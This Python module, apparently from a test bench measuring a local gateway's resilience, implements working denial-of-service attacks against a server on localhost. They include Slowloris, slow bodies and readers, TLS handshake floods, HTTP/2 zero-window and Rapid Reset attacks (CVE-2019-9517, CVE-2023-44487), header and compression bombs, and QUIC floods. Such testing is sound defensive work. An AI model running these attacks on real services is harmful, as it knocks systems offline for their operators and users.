"""What attackers do, each in a process of its own: `python -m attacks.attackers NAME PORT CA SECONDS`."""

from __future__ import annotations

import contextlib
import json
import selectors
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from itertools import count
from pathlib import Path
from typing import Self

import hpack

from attacks import quic
from attacks.bodies import bombs_of, held_windows, packed_answers
from attacks.floods import END_HEADERS, END_STREAM, FLOODS, HEADERS, PING, SETTINGS, bombs, frame, resets

SOURCE = "127.0.0.9"
"""Where attacks come from; a bystander is elsewhere."""
NAME = "shop.example"
CROWD = 3_000
"""Connections that an attacker tries to hold."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ACK = 1
TRY_SECONDS = 2.0
PACE = 50
"""Requests that are reset at a time, below what may wait to be looked at."""
SMALL = 536
"""The smallest segment that everybody takes (RFC 9293 section 3.7.1)."""
_ASKED = [(":method", "GET"), (":scheme", "https"), (":authority", NAME), (":path", "/large")]
# Each field by itself, so that none is kept in the table: the same bytes ask again.
LARGE = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*each) for each in _ASKED])


@dataclass
class Got:
    """What an attacker got."""

    opened: int = 0
    """Connections that it could open."""
    closed: int = 0
    """Of these, closed by the gate before the end."""
    held: int = 0
    """Of these, open at the end."""
    sent: int = 0
    """Bytes."""
    back: int = 0
    """Bytes that came back over UDP."""


@dataclass
class Attacker:
    """Whoever attacks a port until a time."""

    port: int
    trust: Path
    until: float
    got: Got = field(default_factory=Got)
    crowd: list[socket.socket] = field(default_factory=list)
    """What it holds, until it is forgotten itself."""
    most: int = CROWD
    """Connections that it tries to hold."""
    receive: int = 0
    """Bytes that a connection takes without being read; 0 for what the system gives it."""

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        for sock in self.crowd:
            sock.close()

    def goes_on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.until

    def raw(self) -> socket.socket | None:
        """A connection, if one can be had."""
        sock = socket.socket()
        sock.settimeout(TRY_SECONDS)
        if self.receive:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive)
            # Small segments make the other end keep little as well: it waits the sooner.
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, SMALL)
        try:
            sock.bind((SOURCE, 0))
            sock.connect(("127.0.0.1", self.port))
        except OSError:
            sock.close()
            return None
        self.got.opened += 1
        return sock

    def secure(self, protocol: str) -> ssl.SSLSocket | None:
        """One with TLS."""
        raw = self.raw()
        if raw is None:
            return None
        how = ssl.create_default_context(cafile=str(self.trust))
        how.set_alpn_protocols([protocol])
        try:
            return how.wrap_socket(raw, server_hostname=NAME)
        except OSError:
            self.got.closed += 1
            raw.close()
            return None

    def flood(self, frames: Callable[[], Iterator[bytes]]) -> None:
        """Sends frames on one connection after another."""
        while self.goes_on():
            sock = self.secure("h2")
            if sock is None:
                time.sleep(0.05)  # sleep: the attack is to wait
                continue
            pieces = frames()
            try:
                sock.sendall(PREFACE + frame(SETTINGS))
                while self.goes_on():
                    piece = b"".join(next(pieces) for _ in range(100))
                    sock.sendall(piece)
                    self.got.sent += len(piece)
                self.got.held += 1
            except OSError:
                self.got.closed += 1
            sock.close()

    def drip(self, begin: bytes, drop: bytes, every: float = 1.0) -> None:
        """Holds as many connections as it can, and sends a little on each now and then."""
        turn = time.monotonic()
        while self.goes_on():
            if not self._joined(begin) and time.monotonic() < turn:
                time.sleep(0.01)  # sleep: the attack is to wait
            if time.monotonic() >= turn:
                turn = time.monotonic() + every
                self.crowd = [sock for sock in self.crowd if self._dripped(sock, drop)]
        # Who was turned away while the gate had much to do learns of it a moment later.
        before = None
        while before != len(self.crowd):
            before = len(self.crowd)
            time.sleep(1.0)  # sleep: the attack is to wait
            self.crowd = [sock for sock in self.crowd if self._dripped(sock, b"")]
        self.got.held = len(self.crowd)
        # What was let go last is taken again: whoever comes now finds it so.
        while self._joined(begin):
            pass

    def _joined(self, begin: bytes) -> bool:
        """Whether the crowd could take one more."""
        if len(self.crowd) >= self.most or (sock := self.raw()) is None:
            return False
        with contextlib.suppress(OSError):
            sock.sendall(begin)
        sock.setblocking(False)
        self.crowd.append(sock)
        return True

    def _dripped(self, sock: socket.socket, drop: bytes) -> bool:
        """Whether it is open still."""
        try:
            if drop:
                self.got.sent += sock.send(drop)
            with selectors.DefaultSelector() as waiting:
                waiting.register(sock, selectors.EVENT_READ)
                # What comes is left where it is: whoever reads nothing wants the gate to wait.
                open_still = not waiting.select(0) or bool(sock.recv(1, socket.MSG_PEEK))
        except BlockingIOError:
            open_still = True
        except OSError:
            open_still = False
        if not open_still:
            self.got.closed += 1
            sock.close()
        return open_still


def slow_heads(attacker: Attacker) -> None:
    """A head that comes a byte a second (Slowloris)."""
    attacker.drip(b"GET / HTTP/1.1\r\nHost: shop.example\r\nX: ", b"y")


def slow_bodies(attacker: Attacker) -> None:
    """A body that does (R-U-Dead-Yet)."""
    attacker.drip(b"POST / HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 1000000\r\n\r\n", b"y")


def slow_readers(attacker: Attacker) -> None:
    """A large answer that is not read."""
    attacker.drip(b"GET /large HTTP/1.1\r\nHost: shop.example\r\n\r\n", b"")


def idle(attacker: Attacker) -> None:
    """Connections that say nothing."""
    attacker.drip(b"", b"")


def connections(attacker: Attacker) -> None:
    """A request on a new connection, again and again."""
    while attacker.goes_on():
        sock = attacker.raw()
        if sock is None:
            continue
        try:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n")
            if not sock.recv(4096):
                attacker.got.closed += 1
        except OSError:
            attacker.got.closed += 1
        sock.close()


def handshakes(attacker: Attacker) -> None:
    """A hello that was made once, on each of many connections: the gate signs, the attacker does not."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    how = ssl.create_default_context(cafile=str(attacker.trust))
    maker = how.wrap_bio(incoming, outgoing, server_hostname=NAME)
    with contextlib.suppress(ssl.SSLWantReadError):
        maker.do_handshake()
    hello = outgoing.read()
    while attacker.goes_on():
        sock = attacker.raw()
        if sock is None:
            continue
        try:
            sock.sendall(hello)
            if not sock.recv(65536):
                attacker.got.closed += 1
        except OSError:
            attacker.got.closed += 1
        attacker.got.sent += len(hello)
        sock.close()


def windows(attacker: Attacker) -> None:
    """Many large answers on streams whose windows stay shut (CVE-2019-9517)."""
    shut = frame(SETTINGS, b"\x00\x04\x00\x00\x00\x00")
    asked = b"".join(frame(HEADERS, LARGE, END_HEADERS | END_STREAM, stream) for stream in range(1, 200, 2))
    while attacker.goes_on():
        if len(attacker.crowd) < CROWD // 10 and (sock := attacker.secure("h2")) is not None:
            with contextlib.suppress(OSError):
                sock.sendall(PREFACE + shut + asked)
                attacker.got.sent += len(asked)
                attacker.crowd.append(sock)
        else:
            time.sleep(0.1)  # sleep: the attack is to wait
    for held in attacker.crowd:
        held.setblocking(False)
        try:
            while held.recv(65536):
                pass
            attacker.got.closed += 1
        except ssl.SSLWantReadError:
            attacker.got.held += 1
        except OSError:
            attacker.got.closed += 1


def paced_resets(attacker: Attacker) -> None:
    """CVE-2023-44487, a few at a time: the next come once the gate has looked at these."""
    while attacker.goes_on():
        sock = attacker.secure("h2")
        if sock is None:
            time.sleep(0.05)  # sleep: the attack is to wait
            continue
        pairs = resets()
        try:
            sock.sendall(PREFACE + frame(SETTINGS))
            for turn in count(1):
                if not attacker.goes_on():
                    attacker.got.held += 1
                    break
                mark = struct.pack(">Q", turn)
                piece = b"".join(next(pairs) for _ in range(PACE)) + frame(PING, mark)
                sock.sendall(piece)
                attacker.got.sent += len(piece)
                _await(sock, frame(PING, mark, ACK))
        except OSError:
            attacker.got.closed += 1
        sock.close()


def _await(sock: socket.socket, wanted: bytes) -> None:
    """Reads until these bytes came."""
    came = b""
    while wanted not in came:
        piece = sock.recv(65536)
        if not piece:
            raise ConnectionResetError
        came = came[-len(wanted) :] + piece


ATTACKERS: dict[str, Callable[[Attacker], None]] = {
    each.__name__.replace("_", " "): each
    for each in (
        slow_heads,
        slow_bodies,
        slow_readers,
        idle,
        connections,
        handshakes,
        windows,
        paced_resets,
        packed_answers,
        held_windows,
    )
}
for _coding in ("gzip", "br", "zstd"):
    ATTACKERS[f"bombs of {_coding}"] = bombs_of(_coding)
ATTACKERS["initials"] = quic.initials
ATTACKERS["quic handshakes"] = quic.quic_handshakes
ATTACKERS["http3 unread"] = quic.unread
for _name, (_flood, _) in quic.FLOODS.items():
    ATTACKERS[f"http3 {_name}"] = _flood
ATTACKERS["header bombs"] = lambda attacker: attacker.flood(bombs)
for _name, (_frames, _) in FLOODS.items():
    ATTACKERS[f"flood of {_name}"] = lambda attacker, frames=_frames: attacker.flood(frames)  # type: ignore[misc]


def main() -> None:
    """Attacks, and says what it got."""
    name, port, trust, seconds = sys.argv[1:]
    with Attacker(int(port), Path(trust), time.monotonic() + float(seconds)) as attacker:
        ATTACKERS[name](attacker)
    print(json.dumps(asdict(attacker.got)))


if __name__ == "__main__":
    main()
